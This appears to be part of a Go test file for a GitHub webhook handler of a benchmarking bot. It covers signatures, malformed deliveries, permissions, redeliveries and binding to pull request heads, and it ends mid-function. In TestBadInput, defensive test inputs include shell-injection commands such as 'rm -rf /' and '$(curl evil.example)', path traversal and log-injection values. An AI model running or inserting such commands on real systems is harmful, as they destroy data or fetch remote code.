package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/patchbot/patchbot/bot/command"
	"github.com/patchbot/patchbot/bot/queue"
	"github.com/patchbot/patchbot/job"
	"github.com/patchbot/patchbot/step/review"
	"github.com/patchbot/patchbot/step/review/reviewtest"
)

var testSecret = []byte("It's a Secret to Everybody")

// The fixture: pull request gopher/codec#7 at head1; alice may write,
// bob may read, tom may nothing but is trusted by the configuration.
const (
	head1 = "9f2c4b7e1d3a5c6b8e0f1a2b3c4d5e6f7a8b9c0d"
	head2 = "5a295b08adeb1b23f1b7d1a0d49e2c1e5b4f6a7c"
)

// testNow is the clock of the tests: comments are written at it.
var testNow = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

type env struct {
	t    *testing.T
	gh   *reviewtest.GitHub
	q    *queue.Queue
	h    *Handler
	cfg  Config
	jobs chan *queue.Job // the jobs the queue's handler was given, when started
}

// newEnv makes a handler on a real SQLite queue in t.TempDir() and the
// fake GitHub. With work, the queue is started and its handler sends each
// job it is given to env.jobs.
func newEnv(t testing.TB, work bool, mod func(*Config)) *env {
	return newEnvFor(t, "gopher/codec", work, mod)
}

// newEnvFor is newEnv with the fake GitHub serving repo.
func newEnvFor(t testing.TB, repo string, work bool, mod func(*Config)) *env {
	tt, _ := t.(*testing.T)
	e := &env{t: tt, jobs: make(chan *queue.Job, 100)}
	e.gh = reviewtest.NewGitHub(repo)
	t.Cleanup(func() {
		e.gh.Close()
		if s := e.gh.Stray(); len(s) > 0 {
			t.Errorf("requests outside the API prefix: %v", s)
		}
	})
	e.gh.SetPermission("alice", "write")
	e.gh.SetPermission("bob", "read")
	e.gh.SetHead(7, head1)

	opts := &queue.Options{Logger: slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))}
	if work {
		opts.Handler = func(ctx context.Context, j *queue.Job) error {
			e.jobs <- j
			return nil
		}
	}
	q, err := queue.Open(t.Context(), "sqlite:"+filepath.Join(t.TempDir(), "queue.db"), opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.WithoutCancel(t.Context()), 2*time.Minute)
		defer cancel()
		if err := q.Stop(ctx); err != nil {
			t.Errorf("Stop (hung, if the context ended after two minutes): %v", err)
		}
	})
	if work {
		if err := q.Start(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
	e.q = q
	gh, err := review.NewGitHub(&review.GitHubAuth{Token: reviewtest.Token, APIURL: e.gh.URL}, review.Options{
		Policy: review.Policy{Attempts: 2, Backoff: time.Millisecond, MaxWait: time.Second},
	})
	if err != nil {
		t.Fatal(err)
	}
	e.cfg = Config{
		Secret: testSecret,
		Queue:  q,
		GitHub: gh,
		Trust:  command.Trust{GitHubSelf: "patchbot-bot", GitHubTrusted: []string{"tom"}},
		Logger: slog.New(slog.NewTextHandler(t.Output(), nil)),
		Now:    func() time.Time { return testNow.Add(time.Second) },
	}
	if _, ok := t.(*testing.B); ok {
		e.cfg.Logger = nil
	}
	if mod != nil {
		mod(&e.cfg)
	}
	e.h, err = New(e.cfg)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// A comment is an issue_comment event's fields that tests vary.
type comment struct {
	Action   string // "": created
	PR       int    // 0: 7
	Issue    bool   // on an issue, not a pull request
	ID       int64  // 0: 1000+PR
	Login    string // "": alice
	UserType string // "": User
	Body     string
	Repo     string    // "": gopher/codec
	At       time.Time // zero: testNow
}

func (c comment) payload() []byte {
	if c.Action == "" {
		c.Action = "created"
	}
	if c.PR == 0 {
		c.PR = 7
	}
	if c.ID == 0 {
		c.ID = 1000 + int64(c.PR)
	}
	if c.Login == "" {
		c.Login = "alice"
	}
	if c.UserType == "" {
		c.UserType = "User"
	}
	if c.Repo == "" {
		c.Repo = "gopher/codec"
	}
	if c.At.IsZero() {
		c.At = testNow
	}
	issue := map[string]any{"number": c.PR, "title": "codec: fast path"}
	if !c.Issue {
		issue["pull_request"] = map[string]any{"url": "https://api.github.example/repos/" + c.Repo + fmt.Sprintf("/pulls/%d", c.PR)}
	}
	user := map[string]any{"login": c.Login, "type": c.UserType}
	data, err := json.Marshal(map[string]any{
		"action": c.Action,
		"issue":  issue,
		"comment": map[string]any{
			"id": c.ID, "body": c.Body, "user": user,
			"created_at": c.At.Format(time.RFC3339), "updated_at": c.At.Format(time.RFC3339),
		},
		"repository": map[string]any{"full_name": c.Repo, "name": strings.Split(c.Repo, "/")[len(strings.Split(c.Repo, "/"))-1]},
		"sender":     user,
	})
	if err != nil {
		panic(err)
	}
	return data
}

// request is a delivery as GitHub makes it: signed with testSecret.
func request(delivery, event string, body []byte) *http.Request {
	r := httptest.NewRequest("POST", "/webhook/github", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("User-Agent", "GitHub-Hookshot/abc123")
	r.Header.Set(headerEvent, event)
	r.Header.Set(headerDelivery, delivery)
	r.Header.Set(headerSignature, Sign(testSecret, body))
	return r
}

func (e *env) serve(r *http.Request) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	e.h.ServeHTTP(w, r)
	return w
}

// deliver delivers a comment and checks the answer's status.
func (e *env) deliver(delivery string, c comment, want int) string {
	e.t.Helper()
	w := e.serve(request(delivery, "issue_comment", c.payload()))
	if w.Code != want {
		e.t.Errorf("delivery %s (%q by %s): %d %s; want %d", delivery, c.Body, c.Login, w.Code, strings.TrimSpace(w.Body.String()), want)
	}
	return w.Body.String()
}

// identities returns the jobs in the queue as "command review @ revision",
// sorted.
func (e *env) identities(t testing.TB) []string {
	t.Helper()
	jobs, err := e.q.Jobs(t.Context(), 10000)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, j := range jobs {
		ids = append(ids, j.Command+" "+j.Review+" @ "+j.Revision)
	}
	slices.Sort(ids)
	return ids
}

func (e *env) wantJobs(want ...string) {
	e.t.Helper()
	slices.Sort(want)
	if got := e.identities(e.t); !slices.Equal(got, want) {
		e.t.Errorf("jobs in the queue:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(want, "\n\t"))
	}
}

// recv waits for the queue to hand its handler a job.
func (e *env) recv() *queue.Job {
	e.t.Helper()
	select {
	case j := <-e.jobs:
		return j
	case <-time.After(2 * time.Minute):
		e.t.Fatal("hung: no job was worked within two minutes")
		return nil
	}
}

func TestNewRefuses(t *testing.T) {
	e := newEnv(t, false, nil)
	for name, mod := range map[string]func(*Config){
		"no secret":    func(c *Config) { c.Secret = nil },
		"empty secret": func(c *Config) { c.Secret = []byte{} },
		"no queue":     func(c *Config) { c.Queue = nil },
		"no GitHub":    func(c *Config) { c.GitHub = nil },
		"negative cap": func(c *Config) { c.MaxBody = -1 },
	} {
		cfg := e.cfg
		mod(&cfg)
		if h, err := New(cfg); err == nil || h != nil {
			t.Errorf("%s: New = %v, %v; want an error", name, h, err)
		}
	}
	cfg := e.cfg
	cfg.Secret = nil
	if _, err := New(cfg); err == nil || !strings.Contains(err.Error(), EnvWebhookSecret) {
		t.Errorf("no secret: %v; want it to name %s", err, EnvWebhookSecret)
	}
}

// TestSignature: a delivery counts only with a SHA-256 signature, made
// with the secret, over the exact body.
func TestSignature(t *testing.T) {
	e := newEnv(t, false, nil)
	body := comment{Body: "/patchbot bench"}.payload()
	for _, tc := range []struct {
		name string
		set  func(r *http.Request)
		want int
	}{
		{"missing", func(r *http.Request) { r.Header.Del(headerSignature) }, 401},
		{"sha1 only", func(r *http.Request) {
			r.Header.Del(headerSignature)
			r.Header.Set(headerSignatureSHA, "sha1=0123456789abcdef0123456789abcdef01234567")
		}, 401},
		{"sha1 in the sha256 header", func(r *http.Request) {
			r.Header.Set(headerSignature, "sha1=0123456789abcdef0123456789abcdef01234567")
		}, 401},
		{"not hex", func(r *http.Request) { r.Header.Set(headerSignature, "sha256="+strings.Repeat("zz", 32)) }, 401},
		{"short", func(r *http.Request) { r.Header.Set(headerSignature, "sha256=abcd") }, 401},
		{"other secret", func(r *http.Request) { r.Header.Set(headerSignature, Sign([]byte("guess"), body)) }, 401},
		{"empty secret", func(r *http.Request) { r.Header.Set(headerSignature, Sign(nil, body)) }, 401},
		{"other body", func(r *http.Request) { r.Header.Set(headerSignature, Sign(testSecret, append(body, ' '))) }, 401},
		{"upper-case hex", func(r *http.Request) {
			r.Header.Set(headerSignature, "sha256="+strings.ToUpper(strings.TrimPrefix(Sign(testSecret, body), "sha256=")))
		}, 202},
	} {
		r := request("sig-"+strings.ReplaceAll(tc.name, " ", "-"), "issue_comment", body)
		tc.set(r)
		if w := e.serve(r); w.Code != tc.want {
			t.Errorf("%s: %d %s; want %d", tc.name, w.Code, w.Body, tc.want)
		}
	}
	// Only the right signature reached GitHub and the queue.
	e.wantJobs("bench github:gopher/codec#7 @ " + head1)
	if n := len(e.gh.Requests()); n != 2 {
		t.Errorf("%d requests to GitHub (%q); want 2, for the one signed delivery", n, e.gh.Requests())
	}
}

// TestBadInput: every kind of bad delivery gets a clear 4xx (or, for a
// command not understood, a help reply), and never a job.
func TestBadInput(t *testing.T) {
	e := newEnv(t, false, func(c *Config) { c.MaxBody = 4096 })
	good := comment{Body: "/patchbot bench"}.payload()
	big := comment{Body: strings.Repeat("x", 5000)}.payload()
	for _, tc := range []struct {
		name  string
		event string
		body  []byte
		set   func(r *http.Request)
		want  int
	}{
		{"form content type", "issue_comment", good, func(r *http.Request) {
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}, 415},
		{"no content type", "issue_comment", good, func(r *http.Request) { r.Header.Del("Content-Type") }, 415},
		{"bad content type", "issue_comment", good, func(r *http.Request) { r.Header.Set("Content-Type", "application/json; =;") }, 415},
		{"json with charset", "ping", []byte(`{"zen":"Keep it logically awesome."}`), func(r *http.Request) {
			r.Header.Set("Content-Type", "application/json; charset=utf-8")
		}, 200},
		{"oversized", "issue_comment", big, nil, 413},
		{"malformed JSON", "issue_comment", []byte(`{"action": "created", `), nil, 400},
		{"JSON array", "issue_comment", []byte(`[1, 2]`), nil, 400},
		{"wrong types", "issue_comment", []byte(`{"action": 1}`), nil, 400},
		{"empty object", "issue_comment", []byte(`{}`), nil, 400},
		{"no comment", "issue_comment", []byte(`{"action":"created","issue":{"number":7,"pull_request":{}},"repository":{"full_name":"gopher/codec"}}`), nil, 400},
		{"hostile repository", "issue_comment", comment{Repo: "../../etc", Body: "/patchbot bench"}.payload(), nil, 400},
		// Invalid on their face: a 400 before any read of GitHub, not a
		// 502 that asks for a redelivery that could never succeed.
		{"repository ..", "issue_comment", comment{Repo: "evil/..", Body: "/patchbot bench"}.payload(), nil, 400},
		{"repository .", "issue_comment", comment{Repo: "evil/.", Body: "/patchbot bench"}.payload(), nil, 400},
		{"hostile login", "issue_comment", comment{Login: "../../admin", Body: "/patchbot bench"}.payload(), nil, 400},
		{"login with a query", "issue_comment", comment{Login: "bob?x=1", Body: "/patchbot bench"}.payload(), nil, 400},
		{"hostile login, edited", "issue_comment", comment{Action: "edited", Login: "../../admin", Body: "/patchbot bench"}.payload(), nil, 400},
		{"zero issue", "issue_comment", []byte(`{"action":"created","issue":{"number":0,"pull_request":{}},"comment":{"id":1,"body":"/patchbot bench","user":{"login":"alice"}},"repository":{"full_name":"gopher/codec"}}`), nil, 400},
		{"pull_request not an object", "issue_comment", []byte(`{"action":"created","issue":{"number":7,"pull_request":"yes"},"comment":{"id":1,"body":"/patchbot bench","user":{"login":"alice"}},"repository":{"full_name":"gopher/codec"}}`), nil, 400},
		{"negative issue", "issue_comment", comment{PR: -3, Body: "/patchbot bench"}.payload(), nil, 400},
		{"huge issue number", "issue_comment", comment{PR: 1 << 40, Body: "/patchbot bench"}.payload(), nil, 400},
		{"no delivery", "issue_comment", good, func(r *http.Request) { r.Header.Del(headerDelivery) }, 400},
		{"hostile delivery", "issue_comment", good, func(r *http.Request) { r.Header.Set(headerDelivery, "x\" level=ERROR msg=pwned") }, 400},
		{"long delivery", "issue_comment", good, func(r *http.Request) { r.Header.Set(headerDelivery, strings.Repeat("a", 65)) }, 400},
		{"no event", "", good, nil, 400},
		{"hostile event", "issue_comment\nx", good, nil, 400},
		{"event with a hyphen", "issue-comment", good, nil, 400},
		{"event with a space", "issue comment", good, nil, 400},
		{"long event", strings.Repeat("a", 65), good, nil, 400},
		{"unknown event", "push", []byte(`{"ref":"refs/heads/master"}`), nil, 200},
		{"event with digits", "projects_v2_item", []byte(`{"action":"created"}`), nil, 200},
		{"event in capitals", "Ping_2", []byte(`{}`), nil, 200},
		{"not JSON for an unknown event", "star", []byte(`not json`), nil, 200},
	} {
		r := request(deliveryID("bad-"+tc.name), tc.event, tc.body)
		if tc.set != nil {
			tc.set(r)
		}
		w := e.serve(r)
		if w.Code != tc.want {
			t.Errorf("%s: %d %s; want %d", tc.name, w.Code, w.Body, tc.want)
		}
		if w.Code >= 400 && len(strings.TrimSpace(w.Body.String())) < 10 {
			t.Errorf("%s: answer %q does not say what is wrong", tc.name, w.Body)
		}
	}
	for _, m := range []string{"GET", "PUT", "DELETE"} {
		r := request("bad-method-"+m, "issue_comment", good)
		r.Method = m
		if w := e.serve(r); w.Code != http.StatusMethodNotAllowed {
			t.Errorf("%s /webhook/github: %d; want 405", m, w.Code)
		}
	}
	if w := e.serve(httptest.NewRequest("GET", "/webhook/gitlab", nil)); w.Code != 404 {
		t.Errorf("GET /webhook/gitlab: %d; want 404", w.Code)
	}
	e.wantJobs()
	if r := e.gh.Requests(); len(r) > 0 {
		t.Errorf("bad deliveries made requests to GitHub: %q", r)
	}

	// Commands with hostile arguments from someone who may ask: one help
	// reply each, never a bench job.
	var want []string
	for i, body := range []string{
		"/patchbot bench -count 1000000",
		"/patchbot bench -bench (",
		"/patchbot bench ../../etc/passwd",
		"/patchbot bench ./codec; rm -rf /",
		"/patchbot bench $(curl evil.example)",
		"/patchbot bench -exec=/bin/sh",
		"/patchbot rm -rf",
		"/patchbot bench\n/patchbot freeze",
		"/patchbot bench \x00",
	} {
		id := int64(5000 + i)
		e.deliver(fmt.Sprintf("hostile-%d", i), comment{ID: id, Body: body}, 202)
		want = append(want, fmt.Sprintf("help github:gopher/codec#7 @ message:%d", id))
	}
	e.wantJobs(want...)
	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
		t.Errorf("%d reads of the pull request's head for commands that do not run", n)
	}
}

// TestIgnored: comments that are not commands to run get a 200 that says
// why, and cost no job and no request to GitHub.
func TestIgnored(t *testing.T) {
	e := newEnv(t, false, nil)
	for i, c := range []comment{
		{Action: "edited", Body: "/patchbot bench"},
		{Action: "deleted", Body: "/patchbot bench"},
		{Issue: true, Body: "/patchbot bench"},
		{Login: "dependabot[bot]", UserType: "Bot", Body: "/patchbot bench"},
		{Login: "renovate", UserType: "Bot", Body: "/patchbot bench"},
		{Login: "patchbot-bot", Body: "/patchbot bench"},
		{Login: "Patchbot-Bot", Body: "/patchbot help"},
		{Body: "LGTM, thanks"},
		{Body: "> /patchbot bench\nthat is what bob asked"},
		{Body: "    /patchbot bench"},
		{Body: "see /patchbot bench in the docs"},
	} {
		body := e.deliver(fmt.Sprintf("ignored-%d", i), c, 200)
		if !strings.HasPrefix(body, "ignored: ") {
			t.Errorf("%+v: answer %q; want ignored: and why", c, body)
		}
	}
	e.wantJobs()
	if r := e.gh.Requests(); len(r) > 0 {
		t.Errorf("ignored comments made requests to GitHub: %q", r)
	}
}

// TestEndToEnd: a reviewer's command becomes one job on the real queue,
// bound to the pull request's head when it was written; a redelivery, a
// restart and another comment asking the same add nothing; a push makes a
// new command a new job.
func TestEndToEnd(t *testing.T) {
	e := newEnv(t, true, nil)
	const clone = "https://github.com/gopher/codec.git"
	e.gh.SetCloneURL(clone)
	if w := e.serve(request("d-ping", "ping", []byte(`{"zen":"Design for failure.","hook_id":1}`))); w.Code != 200 {
		t.Fatalf("ping: %d %s", w.Code, w.Body)
	}
	c := comment{ID: 42, Body: "Thanks!\n\n/patchbot bench -count 5 ./codec\n"}
	if body := e.deliver("d-1", c, 202); !strings.HasPrefix(body, "queued job ") {
		t.Errorf("answer %q", body)
	}
	j := e.recv()
	want := queue.Args{
		Review:   review.GitHubTarget(review.PullRequest{Owner: "gopher", Repo: "codec", Number: 7}),
		Revision: review.Revision{Commit: head1},
		Command:  "bench",
		Options:  "-count 5 ./codec",
		Who:      "alice",
		Delivery: "d-1",
		Message:  "42",
		Request: job.Request{
			Steps:  []string{job.StepBench, job.StepPost},
			Branch: "master", // the pull request's base, as the webhook read it
			Bench:  job.BenchSettings{Count: 5, Packages: []string{"./codec"}},
			// No pull_request event was recorded (Config.Heads is nil):
			// the reply will say the head may be newer than the command.
			GitHub: &job.GitHub{PullRequest: review.MustParsePullRequest("gopher/codec#7"), HeadSHA: head1, CloneURL: clone, Unverified: true},
		},
	}
	if got, _ := json.Marshal(j.Args); string(got) != string(must(json.Marshal(want))) {
		t.Errorf("queued\n\t%s\nwant\n\t%s", got, must(json.Marshal(want)))
	}
	if got := e.gh.Requests(); !slices.Equal(got, []string{
		"GET /api/v3/repos/gopher/codec/collaborators/alice/permission",
		"GET /api/v3/repos/gopher/codec/pulls/7",
	}) {
		t.Errorf("requests to GitHub: %q", got)
	}

	// The same delivery again: remembered, nothing read, nothing queued.
	n := len(e.gh.Requests())
	if body := e.deliver("d-1", c, 200); !strings.HasPrefix(body, "redelivery") {
		t.Errorf("redelivery: %q", body)
	}
	if len(e.gh.Requests()) != n {
		t.Errorf("a redelivery read GitHub: %q", e.gh.Requests()[n:])
	}
	// After a restart (a new handler on the same queue), the queue knows
	// the comment's job.
	h2, err := New(e.cfg)
	if err != nil {
		t.Fatal(err)
	}
	w := httptest.NewRecorder()
	h2.ServeHTTP(w, request("d-1", "issue_comment", c.payload()))
	if w.Code != 200 || !strings.HasPrefix(w.Body.String(), fmt.Sprintf("this comment has job %d already", j.ID)) {
		t.Errorf("redelivery after a restart: %d %s", w.Code, w.Body)
	}
	// Another reviewer asking the same on the same head: the same job,
	// and one reply to tom's comment saying where its answer is.
	e.deliver("d-2", comment{ID: 43, Login: "tom", Body: "/patchbot bench -count 5 ./codec"}, 202)
	if r := e.recv(); r.Args.Command != "help" || r.Args.Reply != "message:43" ||
		r.Args.Request.Post.Text != "`/patchbot bench -count 5 ./codec` was asked already on "+head1+": nothing new is run. patchbot replies to it once, on this pull request." {
		t.Errorf("the same command again: %s %q", &r.Args, r.Args.Request.Post.Text)
	}
	// With other options, it is another job.
	e.deliver("d-2b", comment{ID: 46, Login: "tom", Body: "/patchbot bench -count 7 ./codec"}, 202)
	if r := e.recv(); r.Args.Command != "bench" || r.Args.Options != "-count 7 ./codec" || r.Args.Revision.String() != head1 {
		t.Errorf("other options: %s", &r.Args)
	}
	// A push, then a command: a new job at the new head; the old job
	// stays bound to the old one.
	e.gh.SetHead(7, head2)
	e.deliver("d-3", comment{ID: 44, Body: "/patchbot bench"}, 202)
	if j := e.recv(); j.Args.Revision.String() != head2 || j.Args.Request.GitHub.HeadSHA != head2 || j.Args.Who != "alice" {
		t.Errorf("after the push: %+v", j.Args)
	}
	// freeze is a job too.
	e.deliver("d-4", comment{ID: 45, Login: "tom", Body: "/patchbot freeze"}, 202)
	if j := e.recv(); j.Args.Command != "freeze" || !slices.Equal(j.Args.Request.Steps, []string{job.StepFreeze, job.StepPost}) || j.Args.Who != "tom" {
		t.Errorf("freeze: %+v", j.Args)
	}
	e.wantJobs(
		"bench github:gopher/codec#7 @ "+head1,
		"bench github:gopher/codec#7 @ "+head1, // -count 7
		"bench github:gopher/codec#7 @ "+head2,
		"freeze github:gopher/codec#7 @ "+head2,
		"help github:gopher/codec#7 @ message:43",
	)
	// tom is trusted by the configuration: his permission was not read.
	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/collaborators/tom/"); n != 0 {
		t.Errorf("tom's permission read %d times", n)
	}
}

// TestReplies: help and the refusal are jobs that post one text, once.
func TestReplies(t *testing.T) {
	e := newEnv(t, true, nil)

	e.deliver("r-1", comment{ID: 50, Login: "bob", Body: "/patchbot bench"}, 202)
	j := e.recv()
	if a := j.Args; a.Command != queue.CommandRefuse || a.Reply != "author:bob" || a.Who != "bob" ||
		!slices.Equal(a.Request.Steps, []string{job.StepPost}) || a.Request.Post.Kind != "refusal-bob" ||
		!strings.HasPrefix(a.Request.Post.Text, "Sorry, patchbot runs commands only for the project's reviewers") ||
		a.Request.GitHub == nil || a.Request.GitHub.PullRequest.String() != "gopher/codec#7" || a.Request.GitHub.HeadSHA != "" {
		t.Errorf("refusal: %+v", a)
	}
	if err := j.Args.Request.Validate(); err != nil {
		t.Errorf("refusal's request: %v", err)
	}
	// bob again, with anything at all: no second refusal. A stranger's
	// malformed command gets the refusal, not the help.
	e.deliver("r-2", comment{ID: 51, Login: "bob", Body: "/patchbot bench -count 1000000"}, 200)
	e.deliver("r-3", comment{ID: 52, Login: "mallory", Body: "/patchbot nope"}, 202)
	if j := e.recv(); j.Args.Command != queue.CommandRefuse || j.Args.Request.Post.Kind != "refusal-mallory" {
		t.Errorf("mallory: %+v", j.Args)
	}

	e.deliver("r-4", comment{ID: 53, Body: "/patchbot help"}, 202)
	j = e.recv()
	if a := j.Args; a.Command != queue.CommandHelp || a.Reply != "message:53" || a.Request.Post.Kind != "help-53" || a.Request.Post.Text != command.Help() {
		t.Errorf("help: %+v", a)
	}
	e.deliver("r-5", comment{ID: 54, Body: "/patchbot bench -count 0"}, 202)
	if a := e.recv().Args; a.Command != queue.CommandHelp || !strings.HasPrefix(a.Request.Post.Text, "patchbot did not run that: line 1: /patchbot bench: ") {
		t.Errorf("help for a bad command: %+v", a)
	}
	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
		t.Errorf("replies read the pull request's head %d times", n)
	}
	if n := e.gh.Count("POST ") + e.gh.Count("PATCH "); n != 0 {
		t.Errorf("the webhook wrote to GitHub %d times: replies are the workers'", n)
	}
}

// TestLookupFails: when GitHub does not answer, the delivery fails with a
// 502 that GitHub's log shows, nothing is queued, and a redelivery once
// GitHub answers does the work.
func TestLookupFails(t *testing.T) {
	e := newEnv(t, false, nil)
	for i, path := range []string{"/permission", "/pulls/7"} {
		e.gh.SetFault(func(w http.ResponseWriter, r *http.Request) bool {
			if strings.HasSuffix(r.URL.Path, path) {
				http.Error(w, `{"message":"boom"}`, http.StatusInternalServerError)
				return true
			}
			return false
		})
		e.deliver(fmt.Sprint("f-", i), comment{Body: "/patchbot bench"}, 502)
		e.wantJobs()
	}
	e.gh.SetFault(nil)
	e.deliver("f-1", comment{Body: "/patchbot bench"}, 202)
	e.wantJobs("bench github:gopher/codec#7 @ " + head1)

	// A pull request that is not there any more.
	e.deliver("f-gone", comment{PR: 8, Body: "/patchbot bench"}, 502)
}

// TestStale: a command written longer ago than MaxCommentAge is not bound
// to today's head.
func TestStale(t *testing.T) {
	e := newEnv(t, true, nil)
	e.deliver("s-1", comment{Body: "/patchbot bench", At: testNow.Add(-time.Hour)}, 202)
	// One reply to the comment says why nothing ran.
	j := e.recv()
	if id := j.Args.String(); id != "help github:gopher/codec#7 @ message:1007" {
		t.Errorf("stale: job %s; want the reply to the comment", id)
	}
	if reply := j.Args.Request.Post.Text; !strings.Contains(reply, "written 1h0m1s ago") || !strings.Contains(reply, "ask again") {
		t.Errorf("stale reply: %q", reply)
	}
	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
		t.Errorf("a stale command read the head")
	}
}

// deliveryID makes a delivery id, which only letters, digits and hyphens
// may make up, of a test's name.
func deliveryID(name string) string {
	return strings.Map(func(r rune) rune {
		if r < 128 && (r == '-' || unicode.IsLetter(r) || unicode.IsDigit(r)) {
			return r
		}
		return '-'
	}, name)
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// TestClosed: a command on a pull request closed, or merged, since the
// comment was written runs nothing.
func TestClosed(t *testing.T) {
	e := newEnv(t, false, nil)
	e.gh.SetHead(8, head2)
	e.gh.ClosePullRequest(7)
	e.gh.MergePullRequest(8)
	for _, pr := range []int{7, 8} {
		if body := e.deliver(fmt.Sprint("c-", pr), comment{PR: pr, Body: "/patchbot bench"}, 200); !strings.HasPrefix(body, "ignored: the pull request is closed") {
			t.Errorf("#%d closed: %q", pr, body)
		}
	}
	e.wantJobs()
}

// pullRequestPayload is a pull_request delivery for pull request n of
// gopher/codec at head.
func pullRequestPayload(action string, n int, head string) []byte {
	return pullRequestPayloadAt(action, n, head, time.Time{})
}

// pullRequestPayloadAt is pullRequestPayload with GitHub's updated_at, the
// time of the push or the opening; none when at is zero.
func pullRequestPayloadAt(action string, n int, head string, at time.Time) []byte {
	pr := map[string]any{"number": n, "head": map[string]any{"sha": head, "ref": "feature"}}
	if !at.IsZero() {
		pr["updated_at"] = at.UTC().Format(time.RFC3339)
	}
	return must(json.Marshal(map[string]any{
		"action": action, "number": n, "pull_request": pr,
		"repository": map[string]any{"full_name": "gopher/codec", "name": "codec"},
	}))
}

// TestHeadBinding: pull_request events record each head with the time it
// arrived. A command written before its pull request's head moved is not
// run: one reply says so. One written after it runs on that head; one on a
// pull request whose heads nobody recorded runs, its request saying that
// the head is unverified (the reply will say which commit it measured).
func TestHeadBinding(t *testing.T) {
	now := testNow
	e := newEnv(t, true, func(c *Config) {
		c.Heads = c.Queue.(*queue.Queue)
		c.Now = func() time.Time { return now }
	})
	event := func(id, action string, n int, head string, want int, wantBody string) {
		t.Helper()
		w := e.serve(request(id, "pull_request", pullRequestPayload(action, n, head)))
		if w.Code != want || !strings.HasPrefix(w.Body.String(), wantBody) {
			t.Errorf("pull_request %s %s: %d %q; want %d %q", id, action, w.Code, w.Body, want, wantBody)
		}
	}

	now = testNow.Add(-time.Hour)
	event("p-open", "opened", 7, head1, 200, "recorded the head "+head1)
	event("p-label", "labeled", 7, head1, 200, "ignored")
	now = testNow.Add(time.Second)
	e.deliver("c-1", comment{ID: 1, Body: "/patchbot bench"}, 202) // written at testNow
	if j := e.recv(); j.Args.Revision.String() != head1 || j.Args.Request.GitHub.Unverified {
		t.Errorf("a command after the head: job %s @ %s, unverified %v; want a bench of %s", j.Args.Command, j.Args.Bound(), j.Args.Request.GitHub.Unverified, head1)
	}

	// A push at testNow+5s, learned then; a command written before it,
	// delivered after.
	now = testNow.Add(5 * time.Second)
	e.gh.SetHead(7, head2)
	event("p-push", "synchronize", 7, head2, 200, "recorded the head "+head2)
	now = testNow.Add(9 * time.Second)
	e.deliver("c-2", comment{ID: 2, Body: "/patchbot bench", At: testNow.Add(time.Second)}, 202)
	j := e.recv()
	if j.Args.Command != "help" || j.Args.Reply != "message:2" {
		t.Fatalf("a command before the push: job %s @ %s; want one reply to the comment", j.Args.Command, j.Args.Revision)
	}
	if text := j.Args.Request.Post.Text; !strings.Contains(text, "moved after this command was written: it is now "+head2) || !strings.Contains(text, "ask again") {
		t.Errorf("the reply does not say the head moved: %q", text)
	}
	e.deliver("c-3", comment{ID: 3, Body: "/patchbot bench", At: testNow.Add(8 * time.Second)}, 202)
	if j := e.recv(); j.Args.Revision.String() != head2 || j.Args.Command != "bench" {
		t.Errorf("a command after the push: job %s @ %s; want a bench of %s", j.Args.Command, j.Args.Bound(), head2)
	}

	// The push's event again, later (GitHub's Redeliver, with the push's
	// updated_at): the head is not new, and a command written between
	// the push and the redelivery runs on it.
	now = testNow.Add(30 * time.Second)
	if w := e.serve(request("p-push-again", "pull_request", pullRequestPayloadAt("synchronize", 7, head2, testNow.Add(5*time.Second)))); w.Code != 200 {
		t.Errorf("the push's event again: %d %s", w.Code, w.Body)
	}
	e.deliver("c-6", comment{ID: 6, Body: "/patchbot bench -count 3", At: testNow.Add(20 * time.Second)}, 202)
	if j := e.recv(); j.Args.Revision.String() != head2 || j.Args.Command != "bench" {
		t.Errorf("a command between a push and its event's redelivery: job %s @ %s; want a bench of %s", j.Args.Command, j.Args.Bound(), head2)
	}

	// A command written within headMargin of the push: which came first
	// is not known, so it runs, unverified.
	e.deliver("c-5", comment{ID: 5, Body: "/patchbot freeze", At: testNow.Add(4 * time.Second)}, 202)
	if j := e.recv(); j.Args.Command != "freeze" || j.Args.Revision.String() != head2 || !j.Args.Request.GitHub.Unverified {
		t.Errorf("a command in the push's seconds: job %s @ %s, unverified %v; want an unverified freeze", j.Args.Command, j.Args.Bound(), j.Args.Request.GitHub.Unverified)
	}

	// No event for pull request 9: run, unverified.
	e.gh.SetHead(9, head1)
	e.deliver("c-4", comment{PR: 9, ID: 4, Body: "/patchbot bench"}, 202)
	if j := e.recv(); j.Args.Revision.String() != head1 || !j.Args.Request.GitHub.Unverified {
		t.Errorf("a command with no recorded heads: job @ %s, unverified %v; want unverified", j.Args.Bound(), j.Args.Request.GitHub.Unverified)
	}

	// Payloads invalid on their face: 400, nothing recorded.
	for name, body := range map[string][]byte{
		"bad sha":  pullRequestPayload("synchronize", 7, "HEAD"),
		"bad repo": []byte(`{"action":"opened","number":7,"pull_request":{"head":{"sha":"` + head1 + `"}},"repository":{"full_name":"evil/.."}}`),
		"no pr":    []byte(`{"action":"opened","repository":{"full_name":"gopher/codec"}}`),
	} {
		if w := e.serve(request(deliveryID("bad-"+name), "pull_request", body)); w.Code != 400 {
			t.Errorf("%s: %d %s; want 400", name, w.Code, w.Body)
		}
	}
}

// TestClosedGetsNothing: a comment on a pull request closed or merged (the
// payload's issue state) gets nothing, not even help or a refusal.
func TestClosedGetsNothing(t *testing.T) {
	e := newEnv(t, false, nil)
	for i, body := range []string{"/patchbot frobnicate", "/patchbot help", "/patchbot bench"} {
